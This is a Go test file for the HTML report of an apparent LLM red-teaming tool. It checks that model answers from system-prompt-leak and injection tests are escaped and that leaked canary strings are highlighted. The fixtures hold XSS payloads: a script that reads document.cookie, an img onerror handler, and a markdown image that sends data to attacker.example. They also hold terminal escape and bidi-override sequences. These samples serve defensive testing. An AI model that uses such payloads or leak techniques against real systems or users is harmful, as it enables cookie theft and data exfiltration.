package html

import (
	"strings"
	"testing"

	"github.com/aiassure/aiassure/report"
)

// TestLLMAnswers: the answers that show a success are in the Tests
// section with the evidence marked, and no answer text carries active
// markup, whatever it holds and wherever its offsets point.
func TestLLMAnswers(t *testing.T) {
	r := fixture(t)
	answer := `Sure! Here is my code: CANARY-7Q2K-ZX91. <script>alert(document.cookie)</script> <img src=x onerror="alert(1)"> ![a](https://attacker.example/c?d=x)`
	start := strings.Index(answer, "CANARY")
	r.LLM = &report.LLMTests{Plan: "basic plan, seed 1, 6 variants × 1 repetitions", Families: []report.LLMFamily{
		{Family: "system-prompt-leak", Status: "fail", Attempts: 6, Successes: 2, Examples: []report.LLMExample{
			{Variant: "repeat/plain", Detector: "leak", Kind: "verbatim", Evidence: "CANARY-7Q2K-ZX91", Answer: answer, Start: start, End: start + 16},
			{Variant: "encode/base64", Detector: "leak", Kind: "base64", Evidence: "CANARY-7Q2K-ZX91 <b>decoded</b>", Answer: "Q0FOQVJZ</pre><script>x</script>", Start: -1, End: -1},
			{Variant: "bad/offsets", Detector: "leak", Evidence: "x", Answer: "short", Start: 3, End: 99},
			{Variant: "mid/rune", Detector: "leak", Evidence: "é", Answer: "café é", Start: 4, End: 5},
		}},
		{Family: "direct-injection", Status: "pass", Attempts: 6},
	}}
	out := render(t, r)
	i := strings.Index(out, `id="h-llm"`)
	if i < 0 || i < strings.Index(out, `id="h-results"`) || i > strings.Index(out, `id="annex-not-applicable"`) {
		t.Fatal("no LLM block in the Tests section")
	}
	block := out[i:strings.Index(out, `id="annex-not-applicable"`)]
	for _, want := range []string{
		"<mark>CANARY-7Q2K-ZX91</mark>",
		"&lt;script&gt;alert(document.cookie)&lt;/script&gt;",
		"decoded from a transformation: <code>CANARY-7Q2K-ZX91 &lt;b&gt;decoded&lt;/b&gt;</code>",
		"Q0FOQVJZ&lt;/pre&gt;&lt;script&gt;x&lt;/script&gt;",
		"<code>llm/direct-injection</code>",
		"2 of 6 judged attempts succeeded",
	} {
		if !strings.Contains(block, want) {
			t.Errorf("the LLM block lacks %q", want)
		}
	}
	for _, bad := range []string{"<script", "<img", "onerror=\"", "<b>"} {
		if strings.Contains(block, bad) {
			t.Errorf("the LLM block carries active markup %q", bad)
		}
	}
	if n := strings.Count(block, "<mark>") - 1; n != 1 { // one is in the explanation
		t.Errorf("%d marks, want 1 (offsets out of range or inside a rune mark nothing)", n)
	}
	if err := balanced(out); err != nil {
		t.Error(err)
	}
	// Without LLM tests there is no block.
	r.LLM = nil
	if strings.Contains(render(t, r), `id="h-llm"`) {
		t.Error("an LLM block without LLM tests")
	}
}

func TestCutAnswer(t *testing.T) {
	long := strings.Repeat("a", 2000) + "SECRET" + strings.Repeat("b", 2000)
	v := cutAnswer(report.LLMExample{Answer: long, Start: 2000, End: 2006})
	if !v.Marked || v.Mark != "SECRET" || len(v.Before) != llmContext || len(v.After) != llmContext || !v.Clipped || !v.ClippedEnd {
		t.Errorf("cut %+v", v)
	}
	v = cutAnswer(report.LLMExample{Answer: "\xff\xfebad", Start: -1, End: -1})
	if v.Marked || v.After != "\uFFFDbad" {
		t.Errorf("invalid UTF-8: %+v", v)
	}
}

// TestLLMAnswerControls: an answer with terminal controls and a bidi
// override before its evidence is marked where the evidence is, and the
// controls are shown as escapes: the offsets index the answer as it was.
func TestLLMAnswerControls(t *testing.T) {
	r := fixture(t)
	answer := "\x1b[2J\u202eoops\x07 the code is CANARY-7Q2K-ZX91, done"
	start := strings.Index(answer, "CANARY")
	r.LLM = &report.LLMTests{Plan: "basic", Families: []report.LLMFamily{
		{Family: "system-prompt-leak", Status: "fail", Attempts: 1, Successes: 1, Examples: []report.LLMExample{
			{Variant: "repeat/plain", Detector: "leak", Kind: "verbatim", Evidence: "CANARY-7Q2K-ZX91", Answer: answer, Start: start, End: start + 16},
		}},
	}}
	out := render(t, r)
	if !strings.Contains(out, "<mark>CANARY-7Q2K-ZX91</mark>") {
		t.Error("the evidence is not marked where it is")
	}
	for _, raw := range []string{"\x1b", "\u202e", "\x07"} {
		if strings.Contains(out, raw) {
			t.Errorf("the page carries the raw %q", raw)
		}
	}
}
